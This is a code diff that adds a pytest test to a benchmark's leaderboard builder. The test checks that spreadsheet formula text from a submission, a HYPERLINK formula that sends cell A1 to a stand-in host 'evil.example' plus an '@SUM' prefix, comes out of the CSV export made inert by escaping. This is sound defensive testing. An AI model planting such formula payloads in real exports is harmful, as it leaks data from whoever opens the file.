@@ -216,3 +216,26 @@ def test_a_package_with_a_fifo_is_refused(tmp_path) -> None:
     os.mkfifo(pkg / "pipe")
     with pytest.raises(AdmissionError, match=f"{pkg}: pipe is not a regular file"):
         source_files(pkg)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+
+
+def test_formula_text_from_a_card_reaches_the_leaderboard_csv_inert(tmp_path) -> None:
+    import csv
+
+    from benchmark.leaderboard import build
+
+    def edit(entry: dict) -> None:
+        entry["card"]["name"] = FORMULA
+        for row in entry["public"]["summary"]:
+            if row["defense"] == "noisy-blend":
+                row["config"] = "@SUM(A1:A9) " + row["config"]
+
+    build(_crafted_entries(tmp_path, edit), tmp_path / "board")
+    rows = list(csv.DictReader((tmp_path / "board" / "submissions-mnist5k.csv").open()))
+    mine = [r for r in rows if r["entry"] != "published baseline"]
+    assert len(mine) == 2 and all(r["entry"] == "'" + FORMULA for r in mine)
+    assert all(r["defense"].startswith("'@SUM(A1:A9) noisy-blend") for r in mine)
+    assert "-0.009" in {r["drop"] for r in rows}  # a plain negative number stays a number
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
